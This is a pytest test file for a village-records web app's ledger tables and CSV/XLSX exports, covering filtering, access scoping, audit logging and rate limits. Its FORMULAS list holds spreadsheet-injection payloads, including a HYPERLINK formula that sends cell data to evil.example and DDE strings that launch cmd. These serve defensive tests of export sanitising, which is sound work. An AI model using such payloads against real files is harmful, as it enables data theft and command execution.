"""Ledgers as tables, and what goes out of them: filtered and sorted, and never another's."""

from __future__ import annotations

import csv
import re
import zipfile
from datetime import date
from io import BytesIO, StringIO
from typing import Any
from urllib.parse import unquote

import pytest

from shishu.access import rates
from shishu.audit.models import AuditEvent
from shishu.records import actions as records
from shishu.web.ledgers import export
from tests.web.conftest import House

pytestmark = pytest.mark.once

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "＝1+1",
    "＋1+1",
    "<r><t>=1+1</t></r>",
)


def page(house: House, address: str, who: str = "青镇审核", status: int = 200) -> str:
    answer = house.client(who).get(address)
    assert answer.status_code == status
    return answer.content.decode()


def content(house: House, address: str, who: str = "青镇审核") -> bytes:
    answer: Any = house.client(who).get(address)
    assert answer.status_code == 200
    return b"".join(answer.streaming_content)


def table(house: House, query: str = "", ledger: str = "lecture") -> list[tuple[str, ...]]:
    """The rows of the .csv below its head and titles."""
    written = content(house, f"/ledgers/{ledger}/export.csv{query}").decode("utf-8-sig")
    return [tuple(row) for row in csv.reader(StringIO(written, newline=""))][2:]


def topics(html: str) -> list[str]:
    """Of the rows of a page, in their order."""
    return re.findall(r"<span data-said>(题目[甲乙丙丁])</span>\s*</td>", html)


@pytest.fixture
def four(house: House) -> House:
    """A lecture in each village; the fourth lies in another county."""
    house.counted("乙村", on=date(2026, 9, 3), topic="题目乙", attended=30, mode="online")
    house.counted("甲村", on=date(2026, 10, 5), topic="题目甲", attended=9)
    house.record("青镇", on=date(2026, 10, 8), topic="题目丙", attended=100)
    foreign = house.record("丁村", on=date(2026, 10, 9), topic="题目丁", attended=50)
    house.approve(foreign, by="白镇审核")
    return house


def test_the_ledgers_that_somebody_of_the_scope_may_record_are_listed_with_their_records(four: House) -> None:
    html = page(four, "/ledgers/")

    assert re.search(r'href="/ledgers/lecture/"><data data-count="records" value="3">', html.replace("\n", ""))
    assert 'href="/ledgers/volunteer_service/"' in html
    assert "志愿服务信息平台" in html
    assert 'href="/ledgers/branch_profile/"' in html
    assert "导入，不用填" in html


def test_ledgers_are_found_by_a_word_of_their_name_or_help(house: House) -> None:
    html = page(house, "/ledgers/?q=收看直播")

    assert set(re.findall(r'href="/ledgers/(\w+)/"', html)) == {"lecture", "study"} & set(
        re.findall(r'href="/ledgers/(\w+)/"', html)
    )
    assert 'href="/ledgers/lecture/"' in html
    assert 'href="/ledgers/village_project/"' not in html


def test_a_table_is_in_administrative_order_and_holds_nobody_elses_records(four: House) -> None:
    assert topics(page(four, "/ledgers/lecture/")) == ["题目丙", "题目甲", "题目乙"]
    assert topics(page(four, "/ledgers/lecture/", who="白镇审核")) == ["题目丁"]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("?sort=date", ["题目乙", "题目甲", "题目丙"]),
        ("?sort=-date", ["题目丙", "题目甲", "题目乙"]),
        ("?sort=-attended", ["题目丙", "题目乙", "题目甲"]),
        ("?sort=attended", ["题目甲", "题目乙", "题目丙"]),
        ("?sort=topic", ["题目丙", "题目甲", "题目乙"]),
        ("?org=乙村", ["题目乙"]),
        ("?org=青镇", ["题目丙", "题目甲", "题目乙"]),
        ("?period=2026-10", ["题目丙", "题目甲"]),
        ("?period=2026", ["题目丙", "题目甲", "题目乙"]),
        ("?from=2026-09-01&to=2026-09-30", ["题目乙"]),
        ("?state=submitted", ["题目丙"]),
        ("?f.mode=online", ["题目乙"]),
        ("?q=目甲", ["题目甲"]),
        ("?q=topic", []),
        ("?q=题目丁", []),
        ("?f.mode=online&org=甲村", []),
    ],
)
def test_a_table_is_filtered_and_sorted_in_the_database(four: House, query: str, expected: list[str]) -> None:
    assert topics(page(four, f"/ledgers/lecture/{query}")) == expected
    assert [row[4] for row in table(four, query)] == expected


def test_an_organisation_of_another_subtree_is_not_there_by_name_or_number(four: House) -> None:
    browser = four.client("青镇审核")
    for written in ("丁村", str(four.numbers["丁村"]), "123456789", "没有这个村"):
        answer = browser.get(f"/ledgers/lecture/?org={written}")
        assert answer.status_code == 404
        assert topics(answer.content.decode()) == []
        assert "江州市/西县" not in answer.content.decode()
        assert browser.get(f"/ledgers/lecture/export.csv?org={written}").status_code == 404


def test_nonsense_in_the_address_is_told_and_never_an_error(four: House) -> None:
    for query in ("?period=昨天", "?from=2026-13-40", "?from=2026-10-02&to=2026-10-01"):
        assert "还不能办" in page(four, f"/ledgers/lecture/{query}")
    for query in ("?page=0", "?page=999", "?page=x", "?sort=;drop", "?state=x", "?f.mode=x", "?f.topic=x", "?step=x"):
        assert len(topics(page(four, f"/ledgers/lecture/{query}"))) == 3
    page(four, "/ledgers/nothing/", status=404)


def test_pages_of_fifty_follow_each_other_without_overlap(house: House) -> None:
    for day in range(1, 29):
        for village in ("甲村", "乙村"):
            house.record(village, on=date(2026, 10, day))

    first, second = (
        re.findall(r'href="/records/([\w-]+)/"', page(house, f"/ledgers/lecture/?page={number}")) for number in (1, 2)
    )

    assert (len(first), len(second)) == (50, 6)
    assert not set(first) & set(second)
    assert 'value="56"' in page(house, "/ledgers/lecture/?page=2")


def test_a_correction_that_waits_shows_in_the_table_and_sorts_by_what_it_says(four: House) -> None:
    made = four.counted("甲村", topic="题目丙", attended=7)
    body = {
        "organisation": four.numbers["甲村"],
        "occurred_on": "2026-10-20",
        "values": {"topic": "题目丁", "attended": 500},
    }
    (outcome,) = [records.correct(made, body, by=four.account("甲村录入"), at=four.at, reason="按签到改")]
    assert outcome.state == "submitted"

    assert topics(page(four, "/ledgers/lecture/?sort=-attended&org=甲村")) == ["题目丁", "题目甲"]
    assert "已计入，更正待审核" in page(four, "/ledgers/lecture/?org=甲村")

    records.take_back([made], by=four.account("甲村录入"), at=four.at)
    assert topics(page(four, "/ledgers/lecture/?sort=-attended&org=甲村")) == ["题目甲", "题目丙"]


def test_columns_are_chosen_in_the_address_and_stay_for_paging_and_export(four: House) -> None:
    chosen = "?cols=1&col=attended"

    html = page(four, f"/ledgers/lecture/{chosen}")

    assert topics(html) == []
    assert 'data-label="参加人数"' in html
    assert f'href="/ledgers/lecture/export.xlsx{chosen.replace("&", "&amp;")}"' in html
    assert [len(row) for row in table(four, chosen)] == [5, 5, 5]


def test_no_text_of_a_record_becomes_a_formula_or_a_link_in_a_file(house: House) -> None:
    for text in FORMULAS:
        house.record("甲村", topic=text)
        house.record("甲村", "volunteer_service", topic=text, sort="care", volunteers=3)

    for ledger in ("lecture", "volunteer_service"):
        with zipfile.ZipFile(BytesIO(content(house, f"/ledgers/{ledger}/export.xlsx"))) as book:
            parts = {name: book.read(name).decode() for name in book.namelist()}
        assert not [name for name, xml in parts.items() if re.search(r"<f[ >/]|hyperlink|TargetMode=.External", xml)]
        assert parts["xl/worksheets/sheet1.xml"].count("evil.example") == 1

        words = {row[4] for row in table(house, ledger=ledger)}
        assert words == {text if text.startswith("<") else f"'{text}" for text in FORMULAS}


def test_a_file_says_what_it_is_and_leaves_an_audit_row(four: House, settings: Any) -> None:
    settings.PROFILE = "demo"
    written = content(four, "/ledgers/lecture/export.csv?period=2026-10").decode("utf-8-sig")
    told = AuditEvent.objects.filter(what="ledger.export").get()

    lines = written.splitlines()
    assert lines[0] == "演示数据，不是任何单位的真实记录"
    assert all(word in lines[1] for word in ("党课", "青镇", "2026-10-01 至 2026-10-31", "截至第"))
    assert lines[2].startswith("单位,上级单位,日期,状态,题目,参加人数（人次）")
    assert (told.by, told.target, told.detail["rows"]) == ("青镇审核", "lecture", 2)
    assert "只列" not in lines[1]


def test_a_part_of_a_ledger_never_passes_for_the_whole_on_the_page_or_in_the_file(four: House) -> None:
    query = "?period=2026-10&q=讲&f.mode=online&state=counted"
    head = content(four, f"/ledgers/lecture/export.csv{query}").decode("utf-8-sig").splitlines()[0]
    status = page(four, f"/ledgers/lecture/{query}").partition('role="status"')[2].partition("</p>")[0]

    assert "2026-10-01 至 2026-10-31　只列：已计入、方式：线上、含“讲”　截至" in head
    assert all(f"<span data-said>{one}</span>" in status for one in ("已计入", "方式：线上", "含“讲”"))


def test_more_rows_than_a_file_takes_are_refused_with_what_to_do(four: House, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "MOST_ROWS", 2)

    html = page(four, "/ledgers/lecture/export.xlsx", status=422)

    assert "请先按单位或期间筛选" in html
    assert not AuditEvent.objects.filter(what="ledger.export").exists()
    assert len(table(four, "?org=甲村")) == 1


def test_the_eleventh_file_of_an_hour_is_refused_whatever_is_in_it(four: House, settings: Any) -> None:
    settings.HAS_RATES = True
    rates.empty()
    browser = four.client("青镇审核")
    year = "scope=subtree&first=2026-01-01&last=2026-12-31"
    traced = f"/trace/export?indicator=lecture.sessions&place=o{four.numbers['青镇']}&{year}"
    kinds = ["/ledgers/lecture/export.csv", "/figures/export.csv", traced]

    answers: list[Any] = [browser.get(kinds[number % 3]) for number in range(10)]
    refused = [browser.get(address).status_code for address in kinds]
    for answer in answers:
        answer.close()

    assert [answer.status_code for answer in answers] == [200] * 10
    assert refused == [429] * 3
    rates.empty()


def test_a_month_is_chosen_and_the_latest_of_each_organisation_stands_first(four: House) -> None:
    html = page(four, "/ledgers/lecture/?period=2026-10")
    days = [row[1] for row in table(four, "?org=甲村")]

    assert 'type="month" name="period" value="2026-10"' in html
    assert days == sorted(days, reverse=True)


def test_who_has_not_signed_in_is_sent_to_the_door(four: House) -> None:
    for address in ("/ledgers/", "/ledgers/lecture/", "/ledgers/lecture/export.csv"):
        assert four.client().get(address).status_code == 302


def test_the_pages_of_a_ledger_stay_within_few_statements(four: House, django_assert_max_num_queries: Any) -> None:
    browser = four.client("青镇审核")
    browser.get("/ledgers/lecture/")
    with django_assert_max_num_queries(20):
        browser.get("/ledgers/lecture/?sort=-attended")


@pytest.mark.parametrize(
    ("query", "marked", "month"),
    [
        ("", "全部", ""),
        ("?period=2026-11", "本月", "2026-11"),
        ("?period=2026-10", "上月", "2026-10"),
        ("?period=2026", "今年", ""),
        ("?period=2023-03", "2023年3月", "2023-03"),
        ("?from=2026-10-01&to=2026-10-31", "上月", "2026-10"),
        ("?from=2026-10-05", "2026-10-05 起", ""),
    ],
)
def test_the_period_that_is_shown_is_marked_and_any_month_can_be_typed(
    four: House, query: str, marked: str, month: str
) -> None:
    html = page(four, f"/ledgers/lecture/{query}")

    assert re.findall(r'aria-current="true">([^<]*)</a>', html.partition("<form")[0]) == [marked]
    assert f'type="month" name="period" value="{month}"' in html


def test_a_file_and_its_sheet_are_named_by_ledger_place_and_period(four: House) -> None:
    for query, told in (
        ("?period=2026-10", "党课 青镇 2026年10月"),
        ("?period=2026&org=甲村", "党课 甲村 2026年"),
        ("?period=2026-10&q=题", "党课 青镇 2026年10月 部分"),
        ("", "党课 青镇 截至2026-11-02"),
    ):
        answer: Any = four.client("青镇审核").get(f"/ledgers/lecture/export.xlsx{query}")
        book = b"".join(answer.streaming_content)

        assert unquote(answer.headers["Content-Disposition"]).endswith(f"{told}.xlsx")
        with zipfile.ZipFile(BytesIO(book)) as parts:
            assert f'<sheet name="{told}"' in parts.read("xl/workbook.xml").decode()
